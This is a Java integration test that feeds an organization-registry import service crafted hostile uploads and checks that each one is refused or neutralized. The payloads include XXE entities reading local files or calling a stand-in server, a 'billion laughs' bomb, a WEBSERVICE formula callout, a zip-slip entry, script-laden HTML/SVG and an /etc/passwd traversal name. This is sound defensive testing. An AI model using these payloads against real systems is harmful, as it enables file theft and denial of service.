package org.tuanlink.security;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import cn.idev.excel.FastExcel;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BinaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.tuanlink.cli.ApiClient;
import org.tuanlink.testing.Roster;
import org.tuanlink.testing.ServiceEnvironment;
import org.tuanlink.testing.ServiceTest;
import tools.jackson.databind.JsonNode;

/**
 * Files that attack whoever reads them, sent as an import. Bombs and tables without end: {@code ImportFilesIT}; photos:
 * {@code PhotosTests}, {@code EvidenceIT}.
 */
@ServiceTest
class HostileUploadIT {

    private static final List<List<String>> PROVINCE =
            List.of(List.of("code", "parentCode", "type", "shortName"), List.of("44", "", "LEADING_BODY", "团广东省委"));

    @LocalServerPort
    private int port;

    @Autowired
    private JdbcTemplate jdbc;

    @TempDir
    Path folder;

    private final AtomicInteger calls = new AtomicInteger();
    private HttpServer elsewhere;
    private ApiClient api;
    private String address;

    @BeforeEach
    void emptyRegistryAndSomewhereElse() throws IOException {
        Roster.empty(jdbc, port);
        api = new ApiClient(URI.create("http://127.0.0.1:" + port), ServiceEnvironment.API_TOKEN);
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", exchange -> {
            calls.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        elsewhere.start();
        address = "http://127.0.0.1:" + elsewhere.getAddress().getPort() + "/x";
    }

    @AfterEach
    void nobodyCalledElsewhere() {
        elsewhere.stop(0);
        assertThat(calls).as("requests that a file made the service send").hasValue(0);
    }

    /** A workbook whose parts are changed: by name and text. */
    private Path workbook(BinaryOperator<String> change) throws IOException {
        Path plain = folder.resolve("plain.xlsx");
        FastExcel.write(plain.toFile()).sheet("组织").doWrite(PROVINCE);
        Path file = folder.resolve("rows.xlsx");
        try (ZipFile in = new ZipFile(plain.toFile());
                ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (ZipEntry entry : Collections.list(in.entries())) {
                String text = new String(in.getInputStream(entry).readAllBytes(), UTF_8);
                out.putNextEntry(new ZipEntry(entry.getName()));
                out.write(change.apply(entry.getName(), text).getBytes(UTF_8));
            }
        }
        return file;
    }

    private static String inSheets(String name, String text, String doctype, String cell) {
        boolean words = name.endsWith("sheet1.xml") || name.endsWith("sharedStrings.xml");
        return words ? text.replaceFirst("\\?>", "?>" + doctype).replace("团广东省委", cell) : text;
    }

    /** How an import ended; FAILED when it was refused at the door. */
    private JsonNode imported(Path file) throws IOException, InterruptedException {
        JsonNode begun;
        try {
            begun = api.upload("organizations", file);
        } catch (ApiClient.RefusedByService refused) {
            assertThat(refused.status()).isEqualTo(422);
            return tools.jackson.databind.node.JsonNodeFactory.instance
                    .objectNode()
                    .put("status", "FAILED");
        }
        String path = "/registry/imports/" + begun.path("id").asLong();
        await().atMost(Duration.ofMinutes(1))
                .until(() -> api.get(path).path("status").asString("").matches("SUCCEEDED|FAILED"));
        return api.get(path);
    }

    private String names() {
        return String.valueOf(jdbc.queryForList("SELECT short_name, full_name FROM registry_organization"));
    }

    @Test
    void thePlainOneIsTaken() throws Exception {
        assertThat(imported(workbook((name, text) -> text)).path("accepted").asInt())
                .isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"file", "http", "parameter"})
    void externalEntitiesAreNotRead(String kind) throws Exception {
        String secret = "团" + UUID.randomUUID();
        Path file = Files.writeString(folder.resolve("secret.txt"), secret);
        String doctype =
                switch (kind) {
                    case "file" -> "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + file.toUri() + "\">]>";
                    case "http" -> "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "\">]>";
                    default -> "<!DOCTYPE x [<!ENTITY e \"x\"><!ENTITY % p SYSTEM \"" + address + "\"> %p;]>";
                };
        JsonNode end = imported(workbook((name, text) -> inSheets(name, text, doctype, "&e;")));
        assertThat(end.path("accepted").asInt()).isZero();
        assertThat(end.toString()).doesNotContain(secret);
        assertThat(names()).doesNotContain(secret);
    }

    /** "Billion laughs": three gigabytes from a few hundred bytes. */
    @Test
    void entitiesAreNotUnfolded() throws Exception {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 \"哈哈哈哈哈哈哈哈哈哈\">");
        for (int i = 1; i < 10; i++) {
            doctype.append("<!ENTITY e")
                    .append(i)
                    .append(" \"")
                    .append(("&e" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        JsonNode end = imported(workbook((name, text) -> inSheets(name, text, doctype + "]>", "&e9;")));
        assertThat(end.path("accepted").asInt()).isZero();
    }

    /** What a formula says it came to is read, as by every reader; it is never calculated, nor are links followed. */
    @Test
    void formulasAndLinksAreNotFollowed() throws Exception {
        JsonNode end = imported(workbook((name, text) -> name.endsWith("sheet1.xml")
                ? text.replace(
                        "</sheetData>",
                        "<row r=\"3\"><c r=\"A3\" t=\"str\"><f>WEBSERVICE(\"" + address
                                + "\")</f><v>4401</v></c><c r=\"C3\" t=\"str\"><f>1+1</f></c></row></sheetData>")
                : name.endsWith("workbook.xml.rels")
                        ? text.replace(
                                "</Relationships>",
                                "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target=\""
                                        + address + "\" TargetMode=\"External\"/></Relationships>")
                        : text));
        assertThat(end.path("status").asString("")).isIn("SUCCEEDED", "FAILED");
        assertThat(end.path("accepted").asInt()).isLessThanOrEqualTo(1);
    }

    @Test
    void aMacroIsNothing() throws Exception {
        Path file = workbook((name, text) -> text);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipFile in = new ZipFile(file.toFile());
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipEntry entry : Collections.list(in.entries())) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                in.getInputStream(entry).transferTo(out);
            }
            out.putNextEntry(new ZipEntry("xl/vbaProject.bin"));
            out.write("Shell(\"calc\")".getBytes(UTF_8));
            out.putNextEntry(new ZipEntry("../../outside.txt"));
            out.write("outside".getBytes(UTF_8));
        }
        Files.write(file, bytes.toByteArray());
        assertThat(imported(file).path("accepted").asInt()).isLessThanOrEqualTo(1);
        assertThat(folder.resolve("../../outside.txt")).doesNotExist();
        assertThat(Path.of("outside.txt")).doesNotExist();
    }

    @Test
    void aHugeCellIsOneRowsTrouble() throws Exception {
        JsonNode end = imported(workbook((name, text) -> inSheets(name, text, "", "团".repeat(2_000_000))));
        assertThat(end.path("accepted").asInt()).isZero();
        assertThat(names()).hasSizeLessThan(1_000);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<html><script>alert(1)</script></html>",
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
            })
    void aPageIsNoTable(String page) throws Exception {
        Path file = Files.writeString(folder.resolve("rows.csv"), page);
        assertThat(imported(file).path("status").asString("")).isEqualTo("FAILED");
    }

    /** A name of a file is shown, and leads nowhere. */
    @Test
    void aNameOfAFileIsNoPath() throws Exception {
        Path file = Files.writeString(
                folder.resolve("..%2f..%2fetc%2fpasswd.csv"), "code,type,shortName\n44,LEADING_BODY,团广东省委\n");
        JsonNode end = imported(file);
        assertThat(end.path("accepted").asInt()).isEqualTo(1);
        assertThat(end.toString()).doesNotContain("etc/passwd");
    }
}
